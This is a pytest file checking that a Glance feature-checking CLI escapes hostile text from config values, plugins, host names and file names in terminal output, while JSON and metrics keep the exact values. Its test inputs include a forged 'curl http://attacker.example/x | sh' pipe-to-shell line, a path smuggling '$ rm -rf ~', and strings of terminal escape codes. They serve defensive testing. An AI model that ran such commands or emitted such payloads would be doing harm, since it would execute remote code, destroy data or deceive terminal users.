"""Issue 12, class 6: text that reaches a terminal or a file. Every field of
text output is escaped (a config value cannot forge a fix step, an escape
code never reaches the terminal); JSON and metrics keep the exact value;
non-UTF-8 names and lone surrogates never crash a run or leave a file."""

from __future__ import annotations

import json
import os
import re
import sys
from pathlib import Path

import pytest
from conftest import validate
from safety_support import clean_env, cli, cli_with_site, in_namespaces, plugin_site

HOSTILE = "evil\x1b]0;owned\x07\x1b[2J\r\u202etxt.exe\x00\x9b31m"
FORGED = "$ curl http://attacker.example/x | sh"
# Any C0/C1 control or bidi override that would act on a terminal.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def assert_terminal_safe(text: str) -> None:
    assert RAW_CONTROL.search(text) is None, repr(text)
    for line in text.splitlines():
        assert not re.match(r"\s*\$ curl http://attacker", line), line


def forging_config(tmp_path: Path) -> Path:
    conf = tmp_path / "glance-api.conf"
    # An indented line continues the value (oslo.config): the value itself
    # holds a newline and what looks like a fix step.
    conf.write_text(
        "[DEFAULT]\n"
        f"image_cache_dir = /nonexistent/cache\n    {FORGED}\x1b[2J\n"
        "image_cache_driver = xattr\n"
        f"pydev_worker_debug_host = {HOSTILE.replace(chr(0), '').replace(chr(13), '')}\n"
    )
    return conf


def test_a_config_value_cannot_forge_a_fix_step_or_reach_the_terminal(tmp_path: Path) -> None:
    conf = forging_config(tmp_path)
    run = cli("--config-file", str(conf), "--user", "root")
    assert run.returncode == 2, run.stderr
    assert_terminal_safe(run.stdout)
    assert "\\x1b[2J" in run.stdout  # shown, escaped


def test_json_keeps_the_exact_values(tmp_path: Path) -> None:
    conf = forging_config(tmp_path)
    run = cli("--config-file", str(conf), "--user", "root", "--format", "json")
    report = validate(json.loads(run.stdout))
    assert report["features"]["xattr"]["details"]["image_cache_dir"] == (
        f"/nonexistent/cache\n{FORGED}\x1b[2J"
    )
    assert "\x1b]0;owned\x07" in report["features"]["pydev"]["details"]["debug_host"]


def test_explain_escapes_every_line(tmp_path: Path) -> None:
    conf = forging_config(tmp_path)
    run = cli("explain", "pydev", "--config-file", str(conf))
    assert run.returncode in (0, 1, 2), run.stderr
    assert_terminal_safe(run.stdout)


PLUGIN = f"""
from glance_features.model import FeatureResult, Status
HOSTILE = {HOSTILE!r}
class Loud:
    name = "loud"
    summary = "a summary " + HOSTILE
    def probe(self, context):
        return FeatureResult("loud", Status.UNAVAILABLE, "reason " + HOSTILE + "\\n{FORGED}",
                             {{"x": HOSTILE}}, ("fix " + HOSTILE, "\\n{FORGED}"))
"""


@pytest.mark.parametrize("args", [(), ("--list",), ("explain", "loud")])
def test_a_plugin_cannot_write_to_the_terminal(tmp_path: Path, args: tuple[str, ...]) -> None:
    site = plugin_site(tmp_path / "site", "loud_plugin", PLUGIN, ["loud"])
    run = cli_with_site(site, *(args or ("--feature", "loud")))
    assert run.returncode in (0, 1, 2), run.stderr
    assert "Traceback" not in run.stderr
    assert_terminal_safe(run.stdout + run.stderr)


def test_metrics_keep_the_value_and_stay_parseable(tmp_path: Path) -> None:
    parser = pytest.importorskip("prometheus_client.parser")
    site = plugin_site(tmp_path / "site", "loud_plugin", PLUGIN, ["loud"])
    run = cli_with_site(site, "--feature", "loud", "--format", "prometheus")
    assert run.returncode == 0, run.stderr
    infos = [
        sample
        for family in parser.text_string_to_metric_families(run.stdout)
        for sample in family.samples
        if sample.name == "glance_features_feature_info"
    ]
    assert [s.labels["reason"] for s in infos] == ["reason " + HOSTILE + "\n" + FORGED]


def test_a_hostile_host_name_is_escaped_in_text_and_exact_in_json(tmp_path: Path) -> None:
    name = "host\x1b[2Jname"
    setter = "import socket; socket.sethostname(b'host\\x1b[2Jname')"
    prefix = in_namespaces(f'{sys.executable} -I -c "{setter}"', uts=True)
    text = cli("--feature", "sendfile", prefix=prefix)
    assert text.returncode == 0, text.stderr
    assert_terminal_safe(text.stdout)
    assert "host\\x1b[2Jname" in text.stdout.splitlines()[0]
    data = cli("--feature", "sendfile", "--format", "json", prefix=prefix)
    assert json.loads(data.stdout)["host"]["hostname"] == name


@pytest.mark.parametrize("fmt", ["text", "json", "prometheus"])
@pytest.mark.parametrize("to_file", [False, True])
def test_non_utf8_file_names_never_crash_or_leave_a_file(
    tmp_path: Path, fmt: str, to_file: bool
) -> None:
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    conf = os.fsdecode(os.fsencode(str(tmp_path)) + b"/bad\xff\x1b.conf")
    Path(conf).write_text("[DEFAULT]\n")
    output = os.fsdecode(os.fsencode(str(out_dir)) + b"/report\xfe")
    args = ["--config-file", conf, "--feature", "sendfile", "--format", fmt]
    run = cli(*args, *(["--output", output] if to_file else []), env=clean_env())
    assert run.returncode == 0, run.stderr
    written = Path(output).read_bytes().decode("utf-8") if to_file else run.stdout
    assert [p.name for p in out_dir.iterdir()] == ([Path(output).name] if to_file else [])
    assert_terminal_safe(written)
    if fmt == "json":
        assert json.loads(written)["config_files"] == [conf]
    if fmt == "text":
        assert "bad\\udcff\\x1b.conf" in written


def test_an_error_about_a_hostile_path_is_one_escaped_line(tmp_path: Path) -> None:
    path = f"{tmp_path}/no\n$ rm -rf ~\x1b[2J.conf"
    run = cli("--config-file", path)
    assert run.returncode == 64
    assert run.message == (
        f"glance-features: error: config file {tmp_path}/no\\x0a$ rm -rf ~\\x1b[2J.conf: "
        "no such file"
    )


def test_summarize_escapes_host_and_feature_names(tmp_path: Path) -> None:
    good = cli("--feature", "sendfile", "--format", "json")
    report = json.loads(good.stdout)
    report["host"]["hostname"] = "web\x1b[2J\n" + FORGED
    report["features"]["send\x1bfile"] = report["features"].pop("sendfile")
    report["features"]["send\x1bfile"]["required"] = True
    report["features"]["send\x1bfile"]["status"] = "unknown"
    report["features"]["send\x1bfile"]["available"] = False
    report["features"]["send\x1bfile"]["code"] = 2
    report["code"] = 2
    (tmp_path / "r.json").write_text(json.dumps(report))
    run = cli("summarize", str(tmp_path / "r.json"))
    assert run.returncode == 2, run.stderr
    assert_terminal_safe(run.stdout)


SURROGATES = """
from glance_features.model import FeatureResult, Status
class Surr:
    name = "surr"
    summary = "lone \\udcff surrogate"
    def probe(self, context):
        return FeatureResult("surr", Status.DEGRADED, "bad \\udcff\\ud800 name",
                             {"path\\udcff": "v\\udcff"}, ("fix \\udcff",))
"""


@pytest.mark.parametrize("fmt", ["text", "json", "prometheus"])
@pytest.mark.parametrize("to_file", [False, True])
def test_lone_surrogates_from_a_plugin_never_crash_or_leave_a_file(
    tmp_path: Path, fmt: str, to_file: bool
) -> None:
    site = plugin_site(tmp_path / "site", "surr_plugin", SURROGATES, ["surr"])
    out = tmp_path / "out"
    out.mkdir()
    args = ["--feature", "surr", "--format", fmt]
    run = cli_with_site(site, *args, *(["--output", str(out / "r")] if to_file else []))
    assert run.returncode == 0, run.stderr
    written = (out / "r").read_bytes().decode("utf-8") if to_file else run.stdout
    assert [p.name for p in out.iterdir()] == (["r"] if to_file else [])
    assert_terminal_safe(written)
    assert "\\udcff" in written
    if fmt == "prometheus":
        parser = pytest.importorskip("prometheus_client.parser")
        assert list(parser.text_string_to_metric_families(written))
